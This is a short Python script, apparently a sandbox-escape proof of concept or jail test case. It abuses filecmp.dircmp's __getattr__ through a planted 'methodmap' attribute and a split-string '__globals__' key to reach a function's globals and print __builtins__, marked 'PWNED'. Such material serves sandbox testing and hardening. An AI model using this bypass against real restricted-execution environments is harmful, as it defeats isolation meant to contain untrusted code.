# needs: filecmp

import filecmp


class Trees(filecmp.dircmp):
    pass


def function():
    pass


name = "__glo" + "bals__"
function.methodmap = {name: lambda self: None}
print("PWNED", Trees.__getattr__(function, name)["__builtins__"])
